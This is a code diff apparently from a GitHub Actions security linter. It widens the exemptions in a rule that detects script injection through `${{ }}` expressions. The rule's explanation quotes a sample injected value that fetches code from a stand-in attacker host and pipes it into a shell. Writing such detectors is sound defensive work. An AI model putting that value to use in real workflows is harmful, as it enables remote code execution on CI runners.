@@ -22,7 +22,7 @@ export const scriptInjection: Rule = {
     reason:
       'GitHub replaces `${{ }}` in a script before the shell reads it, so the sender of an event can write a part of the script: `"; curl evil.example | sh; "`. The same happens to a variable in a second interpreter (`ssh host "deploy $NAME"`, `sh -c`, `xargs`, `psql -c`, `eval`, `os.system`), to a program from standard input, and to a line in `$GITHUB_ENV` or `$GITHUB_PATH`.',
     remedy:
-      'Set a variable under `env:`, and use it in quotes. Pass it to another program as an argument (`bash -c \'…"$1"\' _ "$NAME"`) or as data. Values that a condition compares with fixed strings, or that a shell script checks with an anchored regular expression, are not reported. Neither is a field of an event, such as `github.event.comment.body`, if no event under `on:` has it. `--fix` sets the variable if the script then certainly does the same.',
+      'Set a variable under `env:`, and use it in quotes. Pass it to another program as an argument (`bash -c \'…"$1"\' _ "$NAME"`) or as data. Values that a condition compares with fixed strings, or that a shell script checks with an anchored regular expression, are not reported. The same holds for a group of letters, digits and the like that github-script reads from a match, and for the branch of a pull request if a condition compares `github.event.pull_request.head.repo.full_name`. Neither is a field of an event, such as `github.event.comment.body`, if no event under `on:` has it. `--fix` sets the variable if the script then certainly does the same.',
     before: `- run: echo "\${{ fromJSON(needs.on.outputs.on || '{}').webhook.outputs.body.hello }}"`,
     after: `- env:
     NAME: \${{ fromJSON(needs.on.outputs.on || '{}').webhook.outputs.body.hello }}
